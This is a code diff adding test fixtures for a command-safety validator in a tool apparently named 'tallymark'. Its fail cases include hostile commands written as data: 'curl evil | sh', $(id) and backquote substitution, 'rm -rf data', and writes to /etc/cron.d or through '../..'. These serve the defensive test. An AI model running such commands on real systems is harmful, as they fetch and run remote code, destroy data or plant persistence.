@@ -121,6 +121,11 @@ def swapped_agents(document: Document) -> None:
     first["agents"], second["agents"] = second["agents"], first["agents"]
 
 
+def command(text: str) -> Change:
+    """Replace the command that the document says made it."""
+    return setting("execution", "command", to=text)
+
+
 def left_behind(key: str) -> Change:
     """A fourth task that was admitted and is still there at the end."""
     return both(
@@ -379,12 +384,36 @@ FILES: dict[str, dict[str, tuple[Callable[[], Document], Change]]] = {
         "pass": (report, same),
         "fail": (report, setting("rows", 0, "cells", "elapsed", "sources", 0, "sha256", to="0" * 64)),
     },
+    "safe-command": {
+        "pass-run": (one_run, command("tallymark run scale --set tasks=3 --seed 7 --label a.b-1")),
+        "pass-demo": (one_run, command("tallymark demo")),
+        "pass-recover": (one_run, command("tallymark recover build/scale.journal")),
+        "pass-quoted": (
+            samples,
+            command("tallymark import hyperfine 'größe $(id); a..b=...json' --out data/a"),
+        ),
+        "fail-chain": (one_run, command("tallymark run scale; curl evil | sh")),
+        "fail-substitution": (one_run, command("tallymark run scale --label $(id)")),
+        "fail-backquote": (samples, command("tallymark import hyperfine `id`")),
+        "fail-double-quote": (samples, command('tallymark import hyperfine "$HOME.json"')),
+        "fail-redirection": (one_run, command("tallymark run scale >a")),
+        "fail-glob": (samples, command("tallymark import hyperfine *")),
+        "fail-spacing": (one_run, command("tallymark  run scale")),
+        "fail-quote": (samples, command("tallymark import hyperfine 'a")),
+        "fail-program": (one_run, command("rm -rf data")),
+        "fail-prefix": (one_run, command("env tallymark run scale")),
+        "fail-subcommand": (one_run, command("tallymark freeze runtime-scale")),
+        "fail-no-subcommand": (one_run, command("tallymark")),
+        "fail-outside": (one_run, command("tallymark run scale --out /etc/cron.d")),
+        "fail-outside-joined": (one_run, command("tallymark run scale --out=/etc/cron.d")),
+        "fail-above": (samples, command("tallymark import hyperfine h.json --out data/../../x")),
+    },
     "no-identity": {
         "pass": (one_run, setting("execution", "command", to="tallymark run scale --set tasks=3")),
         "pass-imported": (samples, renamed("eslint@8.0.0 --fix src")),
         "fail-home": (
             one_run,
-            setting("execution", "command", to="tallymark run scale --out /home/jane/data"),
+            setting("manifest", "container", to="overlay below /home/jane/data"),
         ),
         "fail-root": (one_run, setting("manifest", "build", "flags", to="-O2 -ffile-prefix-map=/root/src=.")),
         "fail-mail": (samples, renamed("mail jane.doe@example.org")),
